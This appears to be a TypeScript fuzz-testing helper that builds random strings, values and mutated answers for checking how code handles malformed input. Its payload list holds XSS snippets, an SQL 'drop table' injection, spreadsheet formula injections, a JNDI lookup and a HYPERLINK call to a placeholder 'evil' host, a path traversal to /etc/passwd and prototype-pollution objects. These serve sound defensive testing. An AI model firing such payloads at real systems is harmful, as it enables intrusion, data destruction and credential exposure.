/** Texts and values by chance, made of everything that has ever broken something. */
import { pick } from './chance.ts';
import { hostile } from './hostile.ts';

/** Pieces that mean something somewhere: to a service, a page, a spreadsheet, a log, a database. */
const pieces = [
  ...hostile.filter((text) => text.length < 100),
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' or 1=1; drop table runs; --",
  '=HYPERLINK("http://evil")',
  '\t=1+1',
  '+cmd|calc',
  '${jndi:ldap://evil}',
  '%00%0d%0a',
  '../../../etc/passwd',
  '__proto__',
  '{{constructor}}',
  '\u001b]0;title\u0007',
  'javascript:alert(1)',
  'v1:retry:1:bet9ja',
  '\ufffe\uffff',
  '\u{e0041}\u{e0042}',
];

/** A text of pieces, and of any code units at all: halves of characters and controls included. */
export function aWildText(random: () => number, most = 400): string {
  let text = '';
  const length = Math.floor(random() * most);
  while (text.length < length) text += random() < 0.4 ? pick(random, pieces) : anyUnits(random, 1 + random() * 20);
  return text.slice(0, length);
}

function anyUnits(random: () => number, count: number): string {
  const top = pick(random, [0x20, 0x7f, 0x100, 0x3000, 0x1_0000]);
  const units = Array.from({ length: count }, () => Math.floor(random() * top));
  return String.fromCharCode(...units, ...(random() < 0.1 ? [0xd800] : []));
}

/** A value as a site could send one, of any kind. */
export function aWildValue(random: () => number): unknown {
  switch (Math.floor(random() * 9)) {
    case 0:
      return null;
    case 1:
      return aWildText(random);
    case 2:
      return pick(random, [0, -1, 1e308, -0, 2 ** 53 + 1, 0.1, 1e-9]);
    case 3:
      return random() < 0.5;
    case 4:
      return [];
    case 5:
      return {};
    case 6:
      return Array.from({ length: 5 }, () => aWildValue(random));
    case 7:
      return JSON.parse(`{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`) as unknown;
    default:
      return `${'9'.repeat(Math.floor(random() * 30))}.5`;
  }
}

/** The same answer with some of it changed, left out or put elsewhere. */
export function mutated(answer: unknown, random: () => number): unknown {
  const copy = structuredClone(answer);
  const places: { of: Record<string, unknown>; key: string }[] = [];
  const walk = (part: unknown): void => {
    if (typeof part !== 'object' || part === null) return;
    for (const key of Object.keys(part)) {
      places.push({ of: part as Record<string, unknown>, key });
      walk((part as Record<string, unknown>)[key]);
    }
  };
  walk(copy);
  for (let changes = 1 + Math.floor(random() * 4); changes > 0 && places.length > 0; changes -= 1) {
    const { of, key } = pick(random, places);
    if (random() < 0.25) delete of[key];
    else of[key] = random() < 0.3 ? structuredClone(pick(random, places).of) : aWildValue(random);
  }
  return copy;
}
